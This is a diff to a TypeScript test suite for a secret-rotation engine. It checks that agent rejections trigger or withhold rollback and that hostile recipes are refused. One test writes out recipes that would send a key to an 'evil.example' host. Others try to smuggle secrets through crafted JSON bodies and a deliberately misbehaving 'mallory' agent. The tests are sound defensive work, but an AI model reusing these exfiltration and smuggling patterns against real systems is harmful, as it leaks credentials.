@@ -1,3 +1,4 @@
+import type { AuditEvent } from '@onecli/shared/domain/audit-event';
 import { AddressGuard } from '@onecli/shared/netguard/address-guard';
 import { CheckedResolver } from '@onecli/shared/netguard/checked-resolver';
 import { parseConnectTo } from '@onecli/shared/netguard/connect-to';
@@ -8,6 +9,7 @@ import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { freshDatabase } from '../../../test/support/fresh-database.ts';
 import { everywhere } from '../auth/principal.ts';
 import { openServices, owner } from '../database/testing/open-services.ts';
+import { SecretUse } from '../secrets/secret-use.ts';
 import { SecretVault } from '../secrets/secret-vault.ts';
 import { SecretVersionService } from '../secrets/secret-version.service.ts';
 import { GuardedCaller } from './call-provider.ts';
@@ -106,14 +108,20 @@ async function begun(change: object = {}) {
   return rotations.run(owner, name);
 }
 
-/** Says that so many requests were sent with a version, and how many of them an upstream rejected. */
-async function used(version: number, uses: number, rejections: number): Promise<void> {
-  await services.dataSource.query(`INSERT INTO secret_use SELECT id, $2, now(), $3, $4 FROM secret WHERE name = $1`, [
-    name,
-    version,
-    uses,
-    rejections,
-  ]);
+/** Says that some agents sent so many requests each with a version, and which of them an upstream rejected. */
+async function used(version: number, uses: number, agents: readonly string[], rejected: readonly string[]) {
+  const use = new SecretUse(services.dataSource, { warn: () => undefined });
+  const event = (agentId: string, status: number) =>
+    ({
+      secrets: [`${name}@${version}`],
+      decision: 'allow',
+      status,
+      timeMs: Date.now(),
+      agentId,
+    }) as unknown as AuditEvent;
+  for (const agent of agents)
+    use.count(Array.from({ length: uses }, () => event(agent, rejected.includes(agent) ? 403 : 200)));
+  await use.write();
 }
 
 /** All that is written about it, in the clear. */
@@ -152,7 +160,8 @@ describe('a rotation by a recipe', () => {
   it('rolls back by itself when the upstream rejects the new version, says so, and ends the new key', async () => {
     await begun({ watchSeconds: 60, graceSeconds: 60 });
     await until('WATCHING');
-    await used(2, 4, 3);
+    await used(2, 3, ['bot'], ['bot']);
+    provider.keys.delete('key-2');
     expect(await until('never')).toMatchObject({ outcome: 'ROLLED_BACK' });
     expect(await atWorkers()).toEqual({ current: firstKey, versions: [1] });
     expect([...provider.keys.keys()]).toEqual(['key-0']);
@@ -166,10 +175,51 @@ describe('a rotation by a recipe', () => {
   it('does not roll back for the few rejections of a key that works', async () => {
     await begun({ watchSeconds: 60, graceSeconds: 60 });
     await until('WATCHING');
-    await used(2, 100, 10);
+    await used(2, 100, ['bot'], []);
+    await used(2, 10, ['other'], ['other']);
     await newEngine().advance((await standing())?.id ?? '', never);
     expect(await standing()).toMatchObject({ step: 'WATCHING', finishedAt: null });
     expect((await atWorkers()).versions).toEqual([1, 2]);
+  });
+
+  it('is not undone by one agent that has its requests refused on purpose, while the canary passes', async () => {
+    await begun({ watchSeconds: 60, graceSeconds: 60 });
+    await until('WATCHING');
+    await used(2, 50, ['mallory'], ['mallory']);
+    for (let look = 0; look < 3; look++) await newEngine().advance((await standing())?.id ?? '', never);
+    expect(await standing()).toMatchObject({ step: 'WATCHING', problem: expect.stringContaining('nothing else says') });
+    expect((await atWorkers()).versions).toEqual([1, 2]);
+    const events = await services.dataSource.query<{ detail: object }[]>(
+      "SELECT detail FROM admin_event WHERE action = 'rotation:disputed' AND object_name = $1",
+      [name],
+    );
+    expect(events).toMatchObject([{ detail: { finding: 'ROTATION_REJECTION_DISPUTED' } }]);
+    await services.dataSource.query(
+      "UPDATE rotation_run SET watch_until = now() - interval '1 s', grace_until = now() WHERE finished_at IS NULL",
+    );
+    expect(await until('never')).toMatchObject({ outcome: 'DONE' });
+    expect([...provider.keys.keys()]).toEqual(['key-2']);
+  });
+
+  it('is undone when two agents are rejected, whatever the canary may do', async () => {
+    await begun({ watchSeconds: 60, graceSeconds: 60 });
+    await until('WATCHING');
+    await used(2, 2, ['bot'], ['bot']);
+    await used(2, 2, ['other', 'third'], ['other']);
+    expect(await until('never')).toMatchObject({ outcome: 'ROLLED_BACK' });
+  });
+
+  it('without a canary is undone by the only agent there is, and not by one of several', async () => {
+    const { verify: _, ...blind } = recipe;
+    await rotations.put(owner, name, { ...blind, watchSeconds: 60, graceSeconds: 60 });
+    await rotations.run(owner, name);
+    await until('WATCHING');
+    await used(2, 1, ['bot'], []);
+    await used(2, 9, ['mallory'], ['mallory']);
+    await newEngine().advance((await standing())?.id ?? '', never);
+    expect(await standing()).toMatchObject({ step: 'WATCHING' });
+    await services.dataSource.query("UPDATE secret_use SET used_by = '{mallory}' WHERE used_by <> '{}'");
+    expect(await until('never')).toMatchObject({ outcome: 'ROLLED_BACK' });
   });
 
   it('leaves a value that an admin sets meanwhile, and ends no key that may be in use', async () => {
@@ -302,6 +352,43 @@ describe('a provider that is hostile, and a recipe that is', () => {
     expect((await until('never'))?.problem).toContain('is not bound to');
     expect(provider.seen).toEqual([]);
     await services.secrets.put(owner, 'prod/admin', { binding });
+  });
+
+  it('sends what the provider calls a key, which may be the key itself, only where a secret of that request goes', async () => {
+    const keyId = { ...recipe.create, keyIdPath: '$.data[0].secret' };
+    const verify = { method: 'GET', url: 'https://evil.example/{{newKeyId}}' };
+    const refused = { code: 'INVALID', field: 'verify' };
+    await expect(rotations.put(owner, name, { ...recipe, create: keyId, verify })).rejects.toMatchObject(refused);
+    const inHeader = { method: 'GET', url: 'https://evil.example/', headers: { 'x-id': '{{oldKeyId}}' } };
+    await expect(rotations.put(owner, name, { ...recipe, verify: inHeader })).rejects.toMatchObject(refused);
+    // Both bindings are changed after the recipe was written: the one of the request covers its host, or nothing is sent.
+    await rotations.put(owner, name, { ...recipe, revoke: { ...recipe.revoke, headers: {} }, watchSeconds: 0 });
+    await rotations.run(owner, name);
+    await until('REVOKING');
+    await services.secrets.put(owner, name, { binding: { hosts: ['other.example'], surfaces: ['header'] } });
+    provider.seen.length = 0;
+    await newEngine().advance((await standing())?.id ?? '', never);
+    expect((await standing())?.problem).toContain('is not bound to');
+    expect(provider.seen).toEqual([]);
+  });
+
+  it.each([
+    ['{"key":"{{new}}"}', true],
+    ['{"key":"x {{new}} y"}', true],
+    ['{"other":"{{new}}"}', false],
+    ['{"key":"x","note":"{{new}}"}', false],
+    ['{"key":["{{new}}"]}', false],
+    ['{"{{new}}":"x"}', false],
+    ['{"key":"{{new}}","key":"x"}', false],
+    ['{"key":{{new}}}', false],
+    ['{"note":"{{new}}","key":"\\u007b{new}}"}', false],
+  ])('puts a secret into a JSON body where its binding says: %s', async (body, isLet) => {
+    const places = { hosts: [providerHost], surfaces: ['header', 'json'], jsonPaths: ['$.key'] };
+    await services.secrets.put(owner, name, { binding: places });
+    const deliver = { url: `https://${providerHost}/deliver`, body };
+    const put = rotations.put(owner, name, { generate: {}, deliver });
+    if (isLet) expect(await put).toMatchObject({ change: 'CREATED' });
+    else await expect(put).rejects.toMatchObject({ code: 'INVALID', field: 'deliver' });
   });
 
   it.each([
